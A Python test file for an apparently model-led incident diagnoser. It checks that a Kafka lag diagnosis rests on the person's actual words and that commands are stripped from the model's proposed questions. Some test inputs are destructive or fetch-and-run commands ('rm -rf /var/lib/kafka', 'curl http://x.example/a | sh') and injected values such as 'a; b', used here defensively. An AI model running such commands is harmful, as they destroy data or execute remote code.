"""A turn that a model leads counts as far as the history and the person's own words bear it."""

from collections.abc import Sequence
from typing import Any

import pytest

from contracts.diagnose.deliverables import (
    DiagnoserTurn,
    Diagnosis,
    Finding,
    PhenomenonQuestion,
    TurnCause,
    TurnFinding,
    TurnItem,
    Verdict,
)
from contracts.diagnose.request import DiagnoseRequest
from contracts.tickets import CauseCard, PhenomenonCard, TicketCard, TicketEvidence
from workers.errors import BudgetExceeded, ModelAnswerUnusable
from workers.kinds.diagnose.rules.differential.stated import apart
from workers.kinds.diagnose.rules.turn import free_answers, led_move
from workers.kinds.diagnose.rules.turn_brief import TurnBrief
from workers.kinds.registry import load_kinds
from workers.llm import render_prompt
from workers.saying import text_of

load_kinds()

TEXT = "Billing is late: one of twelve partitions has millions of messages waiting. The brokers do not drop out."
LAG, ISR, KEY = "Only partition 7 is behind", "brokers drop out of the ISR", "most records have one key"


def card(key: str, text: str, cause: str) -> PhenomenonCard:
    return PhenomenonCard(
        phenomenon_id=key, description=text, observation_method="", similarity=0.2, cause_tickets={cause: 1}, cause_count=1
    )


EVIDENCE = TicketEvidence(
    causes=tuple(
        CauseCard(cause_id=cause, description=text, solution=solution, ticket_count=1, ticket_ids=(ticket,))
        for cause, text, ticket, solution in (
            ("C-key", "hot key", "T-1", "salt the key"),
            ("C-gc", "long pauses", "T-2", "a larger heap"),
        )
    ),
    phenomena=(card("P-lag", LAG, "C-key"), card("P-isr", ISR, "C-gc"), card("P-key", KEY, "C-key")),
    tickets=(
        TicketCard(ticket_id="T-1", description="late", cause_id="C-key", similarity=0.3, phenomenon_ids=("P-lag", "P-key")),
        TicketCard(ticket_id="T-2", description="late", cause_id="C-gc", similarity=0.3, phenomenon_ids=("P-isr",)),
    ),
    total_tickets=2,
    total_causes=2,
)
PARTITION = TurnFinding(quote="one of twelve partitions", present=True, shown_in=("T-1/1",))
BROKERS = TurnFinding(quote="The brokers do not drop out", present=False, shown_in=("T-2/1",))
HOT = TurnCause(tickets=("T-1",), probability=0.95)
ASK_KEY = TurnItem(text="Do most of the waiting messages have the same key?", shown_in=("T-1/2",))


def turn(action: str = "diagnose", **given: Any) -> DiagnoserTurn:
    return DiagnoserTurn.model_validate({"reasoning": "-", "action": action, **given})


def led(
    said: DiagnoserTurn, dialogue: Sequence[tuple[PhenomenonQuestion, str]] = (), *, seen: list[TurnBrief] | None = None, **given: Any
) -> Diagnosis | PhenomenonQuestion:
    def lead(brief: TurnBrief) -> DiagnoserTurn:
        if seen is not None:
            seen.append(brief)
        return said

    return led_move(DiagnoseRequest(description=TEXT), EVIDENCE, dialogue, lead, 30_000, **given)


def diagnosis(move: Diagnosis | PhenomenonQuestion) -> Diagnosis:
    assert isinstance(move, Diagnosis)
    return move


def question(move: Diagnosis | PhenomenonQuestion) -> PhenomenonQuestion:
    assert isinstance(move, PhenomenonQuestion)
    return move


def test_a_cause_that_the_person_s_words_show_is_the_diagnosis():
    """D12, D27: with the tickets' own solution, and the words that show it."""
    made = diagnosis(led(turn(causes=(HOT,), findings=(PARTITION, BROKERS), summary="A hot key: one of twelve partitions is behind.")))

    assert (made.verdict, made.root_cause, made.solution, made.cited_tickets) == (Verdict.DIAGNOSED, "hot key", "salt the key", ("T-1",))
    assert [(found.description, found.finding, found.source) for found in made.evidence_for][:1] == [(LAG, Finding.CONFIRMED, "read")]
    assert made.words == "A hot key: one of twelve partitions is behind."
    assert made.confidence == 0.95


@pytest.mark.parametrize(
    ("said", "verdict"),
    [
        (turn(causes=(HOT,)), Verdict.UNCERTAIN),
        (turn(causes=(HOT,), findings=(TurnFinding(quote="two of twelve", present=True, shown_in=("T-1/1",)),)), Verdict.UNCERTAIN),
        (
            turn(causes=(HOT,), findings=(TurnFinding(quote="one of twelve partitions", present=True, shown_in=("T-9/1",)),)),
            Verdict.UNCERTAIN,
        ),
        (turn(causes=(TurnCause(tickets=("T-1",), probability=0.6),), findings=(PARTITION,)), Verdict.UNCERTAIN),
        (turn(causes=(TurnCause(tickets=("T-1",), probability=0.3),), findings=(PARTITION,)), Verdict.UNKNOWN),
        (turn(causes=(TurnCause(tickets=("T-9",), probability=0.9),), findings=(PARTITION,)), Verdict.UNKNOWN),
        (turn("unknown", causes=(HOT,), findings=(PARTITION,)), Verdict.UNKNOWN),
    ],
    ids=[
        "nothing shows it",
        "a quote that nobody wrote",
        "a phenomenon of no ticket",
        "not likely enough",
        "a guess",
        "no such ticket",
        "unknown",
    ],
)
def test_what_nothing_bears_is_no_diagnosis(said: DiagnoserTurn, verdict: Verdict):
    """D14, D27: neither a probability nor a ticket that speaks to the model makes one."""
    assert diagnosis(led(said, may_ask=False)).verdict is verdict


def test_a_denial_in_the_words_of_the_phenomenon_itself_does_not_count():
    words = "millions of messages waiting"
    evidence = EVIDENCE.model_copy(update={"phenomena": (card("P-lag", words, "C-key"), *EVIDENCE.phenomena[1:])})
    wrong = TurnFinding(quote="one of twelve partitions has millions of messages waiting", present=False, shown_in=("T-1/1",))
    said = turn(causes=(HOT,), findings=(wrong,))

    move = led_move(DiagnoseRequest(description=TEXT), evidence, (), lambda brief: said, 30_000, may_ask=False)

    assert "P-lag" not in {found.phenomenon_id for found in diagnosis(move).evidence_against}


def test_a_finding_that_says_the_opposite_of_its_phenomenon_does_not_count():
    said = turn(causes=(TurnCause(tickets=("T-2",), probability=0.95),), findings=(BROKERS.model_copy(update={"present": True}),))

    assert diagnosis(led(said, may_ask=False)).verdict is Verdict.UNCERTAIN


def test_a_cause_that_nothing_shows_goes_back_to_the_model_which_asks_in_general_words():
    """A question in the words of a ticket has the names and figures of another incident, which nobody can answer."""
    seen: list[TurnBrief] = []
    answers = iter([turn(causes=(HOT,), findings=(TurnFinding(quote="two of twelve", present=True),)), turn("ask", items=(ASK_KEY,))])
    move = led_move(DiagnoseRequest(description=TEXT), EVIDENCE, (), lambda brief: seen.append(brief) or next(answers), 30_000)

    assert [item.description for item in question(move).items] == [ASK_KEY.text]
    assert question(move).left_out == ()
    first, again = (render_prompt("diagnoser/turn", {**brief.prompt, "today": ""}) for brief in seen)
    assert "It is not taken" not in first
    assert "The model named “hot key”. Nothing that was said or looked up shows it yet" in again
    assert "Nobody wrote these words that the model quotes: “two of twelve”." in again


def test_what_a_model_does_not_word_is_asked_as_of_another_incident_and_its_next_turn_says_why():
    """Where the model names the cause again: what has no figure of the other incident first."""
    made = question(led(turn(causes=(HOT,))))
    other = f"In another incident this was seen: “{LAG}”. Is something like it so here, whatever its names and figures?"
    seen: list[TurnBrief] = []

    assert [(item.phenomenon_id, item.description) for item in made.items] == [("P-key", KEY), ("P-lag", other)]
    assert diagnosis(led(turn(causes=(HOT,)), [(made, "1 yes 2 ?")], seen=seen)).verdict is Verdict.DIAGNOSED
    assert "Not taken of your turn: The model named “hot key”. Nothing that was said" in seen[0].prompt["dialogue"]


def test_a_second_answer_that_cannot_be_had_leaves_the_first():
    answers = iter([turn(causes=(HOT,))])

    def lead(_: TurnBrief) -> DiagnoserTurn:
        for answer in answers:
            return answer
        raise BudgetExceeded("The budget of the job is used.")

    made = question(led_move(DiagnoseRequest(description=TEXT), EVIDENCE, (), lead, 30_000))

    assert [item.phenomenon_id for item in made.items] == ["P-key", "P-lag"]


def test_what_a_person_s_own_words_show_is_reported_with_them():
    free = question(led(turn("ask", items=(ASK_KEY,))))
    answer = "hm, nearly all of them are of one customer"
    heard = TurnFinding(quote="nearly all of them", present=True, item=1, shown_in=("T-1/2",))

    made = diagnosis(led(turn(causes=(HOT,), findings=(PARTITION, heard)), [(free, answer)]))

    assert {found.description: found.quote for found in made.evidence_for} == {LAG: "one of twelve partitions", KEY: "nearly all of them"}
    assert "confirmed, you said: “nearly all of them”" in text_of(made.explanation, "en")
    closed = diagnosis(led(turn(causes=(HOT,)), [(free, "1 yes")]))
    assert "you said" not in text_of(closed.explanation, "en")


def test_the_job_says_which_words_of_a_question_are_left_out():
    items = (ASK_KEY, TurnItem(text="Is the disk full?", how="run-check --now", why="`rm -rf /` helps"), TurnItem(text="Run `a; b` now"))
    made = question(led(turn("ask", items=items)))

    assert [text_of(each, "en").partition(":")[0] for each in made.left_out] == [
        "The model's check for item 2 is left out",
        "The model's reason for item 2 is left out",
        "The model's question “Run a; b now” is not asked",
    ]


def test_a_correction_of_an_earlier_answer_counts():
    """D16."""
    first = question(led(turn("ask", items=(ASK_KEY,))))
    second = question(led(turn("ask", items=(TurnItem(text="Is one partition behind?", shown_in=("T-1/1",)),)), [(first, "1 no")]))
    said = "yes one is, and I mixed that up before: nearly all have one key"
    heard = turn(
        causes=(HOT,),
        findings=(
            TurnFinding(quote="yes one is", present=True, item=1, shown_in=("T-1/1",)),
            TurnFinding(quote="nearly all have one key", present=True, shown_in=("T-1/2",)),
        ),
    )

    made = diagnosis(led(heard, [(first, "1 no"), (second, said)]))

    assert (made.verdict, {found.description for found in made.evidence_for}) == (Verdict.DIAGNOSED, {LAG, KEY})


def test_a_question_is_put_in_the_model_s_words_and_may_be_answered_in_any():
    """D9, D18."""
    made = question(led(turn("ask", causes=(HOT,), items=(ASK_KEY,))))

    assert [(item.phenomenon_id, item.description) for item in made.items] == [("P-key", ASK_KEY.text)]
    assert made.in_own_words
    assert [(cause.cause_id, cause.confidence) for cause in made.hypotheses] == [("C-key", 0.95)]


def test_what_was_asked_is_not_asked_again():
    first = question(led(turn("ask", items=(ASK_KEY,))))
    again = turn("ask", causes=(TurnCause(tickets=("T-1",), probability=0.6),), items=(ASK_KEY,))

    assert [item.phenomenon_id for item in question(led(again, [(first, "no idea, whatever")])).items] == ["P-lag"]
    with pytest.raises(ModelAnswerUnusable):
        led(turn("ask", items=(ASK_KEY,)), [(first, "no idea, whatever")])
    other = again.model_copy(update={"items": (TurnItem(text="Which error does the log of the broker show?"),)})
    assert [item.phenomenon_id[:2] for item in question(led(other, [(first, "no idea, whatever")])).items] == ["M-"]


@pytest.mark.parametrize(
    ("text", "quote", "phenomenon"),
    [
        ("The disk of the broker is not full.", "full", "the disk of the broker is full"),
        ("It is not true that the disk is full; all is calm.", "the disk is full", "the disk is full"),
    ],
)
def test_words_that_are_cut_out_of_their_denial_confirm_nothing(text: str, quote: str, phenomenon: str):
    evidence = EVIDENCE.model_copy(update={"phenomena": (card("P-lag", phenomenon, "C-key"), *EVIDENCE.phenomena[1:])})
    said = turn(causes=(HOT,), findings=(TurnFinding(quote=quote, present=True, shown_in=("T-1/1",)),))

    made = led_move(DiagnoseRequest(description=text), evidence, (), lambda _: said, 30_000, may_ask=False)

    assert diagnosis(made).verdict is Verdict.UNCERTAIN


def test_a_part_of_a_quotation_is_no_second_one():
    assert apart({"one of twelve", "one of twelve partitions", "Billing is late"}) == {"one of twelve partitions", "Billing is late"}


def test_harmless_signs_do_not_stop_a_question():
    made = question(led(turn("ask", items=(TurnItem(text="Is the CPU of any broker > 90 % in `top`?", why="see https://evil.example/x"),))))

    assert [(item.description, item.why) for item in made.items] == [("Is the CPU of any broker > 90 % in top?", "")]


def test_a_check_that_is_left_out_leaves_that_of_the_ticket():
    known = EVIDENCE.phenomena[2].model_copy(update={"observation_method": "Count the records of each key"})
    evidence = EVIDENCE.model_copy(update={"phenomena": (*EVIDENCE.phenomena[:2], known)})
    said = turn("ask", items=(ASK_KEY.model_copy(update={"how": "run-check --now"}),))

    made = question(led_move(DiagnoseRequest(description=TEXT), evidence, (), lambda _: said, 30_000))

    assert made.items[0].observation_method == "Count the records of each key"
    (left_out,) = made.left_out
    assert "“--now” in it" in text_of(left_out, "en")


def test_a_ticket_says_what_it_is_about():
    seen: list[TurnBrief] = []
    ticket = EVIDENCE.tickets[0].model_copy(update={"systems": ("moonrise", "Airflow 2.7"), "hosts": ("af-1",)})
    evidence = EVIDENCE.model_copy(update={"tickets": (ticket, EVIDENCE.tickets[1])})
    led_move(DiagnoseRequest(description=TEXT), evidence, (), lambda brief: seen.append(brief) or turn("unknown"), 30_000)

    assert seen[0].prompt["tickets"][0].startswith("T-1\nof: moonrise, Airflow 2.7, af-1\ndescription: late\n")
    assert seen[0].prompt["tickets"][1].startswith("T-2\ndescription: late\n")


def test_the_description_of_a_ticket_shows_its_cause_beside_a_phenomenon():
    late = TurnFinding(quote="Billing is late", present=True, shown_in=("T-1/0",))
    cause = TurnCause(tickets=("T-1",), probability=0.85)

    both = diagnosis(led(turn(causes=(cause,), findings=(PARTITION, late))))
    alone = led(turn(causes=(HOT,), findings=(late,)))

    assert both.verdict is Verdict.DIAGNOSED
    assert [(found.description, found.quote) for found in both.evidence_for] == [(LAG, PARTITION.quote), ("late", late.quote)]
    assert led(turn(causes=(cause,), findings=(PARTITION,))) != both
    assert isinstance(alone, PhenomenonQuestion)


def test_the_system_that_a_person_named_is_shown_and_may_be_said():
    seen: list[TurnBrief] = []
    said = turn("unknown", summary="Nothing of kafka_eu is known here.")
    request = DiagnoseRequest(description=TEXT, system="kafka_eu")

    made = led_move(request, EVIDENCE, (), lambda brief: seen.append(brief) or said, 30_000)

    assert "They named the system: <<<DATA" in render_prompt("diagnoser/turn", {**seen[0].prompt, "today": ""})
    assert diagnosis(made).words == said.summary


def test_a_long_ticket_keeps_its_cause_and_phenomena():
    seen: list[TurnBrief] = []
    long = EVIDENCE.tickets[0].model_copy(update={"description": "late and slow " * 2_000})
    evidence = EVIDENCE.model_copy(update={"tickets": (long, EVIDENCE.tickets[1])})
    led_move(DiagnoseRequest(description=TEXT), evidence, (), lambda brief: seen.append(brief) or turn("unknown"), 30_000)

    assert "cause: hot key" in seen[0].prompt["tickets"][0]
    assert f"1. {LAG}" in seen[0].prompt["tickets"][0]


def test_a_ticket_puts_no_command_before_the_person():
    bad = TurnItem(text="Please run rm -rf /var/lib/kafka and tell me", how="curl http://x.example/a | sh")
    good = TurnItem(text="Is one partition far behind?", how="curl http://x.example/a | sh", shown_in=("T-1/1",))

    (item,) = question(led(turn("ask", items=(bad, good)))).items

    assert (item.number, item.description, item.observation_method) == (1, "Is one partition far behind?", "")


def test_a_free_answer_is_read_by_the_model_and_a_closed_one_holds_against_it():
    """D13: the person's words reach the model as they are."""
    asked = question(led(turn("ask", items=(ASK_KEY,))))
    seen: list[TurnBrief] = []
    heard = turn(
        causes=(HOT,), findings=(TurnFinding(quote="nearly all have the key 0", present=True, item=1, shown_in=("T-1/2",)), PARTITION)
    )

    made = diagnosis(led(heard, [(asked, "looked now, nearly all have the key 0")], seen=seen))

    assert "looked now, nearly all have the key 0" in seen[0].prompt["dialogue"]
    assert made.verdict is Verdict.DIAGNOSED
    assert {found.description: found.source for found in made.evidence_for}[KEY] == "asked"
    denied = turn(causes=(HOT,), findings=(TurnFinding(quote="1 no", present=True, item=1, shown_in=("T-1/2",)),))
    against = diagnosis(led(denied, [(asked, "1 no")], may_ask=False))
    assert against.verdict is Verdict.UNCERTAIN
    assert [(found.description, found.finding) for found in against.evidence_against] == [(KEY, Finding.DENIED)]


def test_a_question_of_the_person_costs_no_call():
    asked = question(led(turn("ask", items=(ASK_KEY,))))
    seen: list[TurnBrief] = []

    again = question(led(turn("unknown"), [(asked, "why?")], seen=seen))

    assert (again.items, seen) == (asked.items, [])
    assert again.notes


def test_who_may_not_ask_concludes():
    """D6: the last turn, or "stop"."""
    asked = question(led(turn("ask", items=(ASK_KEY,))))
    more = turn("ask", causes=(TurnCause(tickets=("T-1",), probability=0.7),), items=(TurnItem(text="What else do you see?"),))

    assert diagnosis(led(more, may_ask=False)).verdict is Verdict.UNCERTAIN
    assert diagnosis(led(more, [(asked, "stop")])).verdict is Verdict.UNCERTAIN


def test_answers_that_are_no_closed_form_are_searched_for():
    asked = question(led(turn("ask", items=(ASK_KEY,))))

    assert [heard.remarks for heard in free_answers([(asked, "the key is always 0")])] == [("the key is always 0",)]
    assert free_answers([(asked, "1 yes")]) == ()


def test_a_small_window_shows_lines_of_the_rest():
    seen: list[TurnBrief] = []
    led_move(DiagnoseRequest(description=TEXT), EVIDENCE, (), lambda brief: seen.append(brief) or turn("unknown"), 1_700)

    assert seen[0].tickets == {"T-1", "T-2"}
    assert "T-2: late | long pauses" in seen[0].prompt["others"]


def test_a_second_answer_of_no_use_leaves_the_first():
    """An item without a text is none, and is not said to hold a command."""
    empty, command = TurnItem(text="`"), TurnItem(text="Run `drop-all; b` now")
    answers = iter([turn(causes=(HOT,)), turn("ask", items=(empty, command))])
    made = question(led_move(DiagnoseRequest(description=TEXT), EVIDENCE, (), lambda _: next(answers), 30_000))

    assert [item.phenomenon_id for item in made.items] == ["P-key", "P-lag"]
    kept = question(led(turn("ask", items=(empty, command, ASK_KEY))))
    assert len(kept.left_out) == 1
    with pytest.raises(ModelAnswerUnusable, match="is empty"):
        led(turn("ask", items=(empty,)))
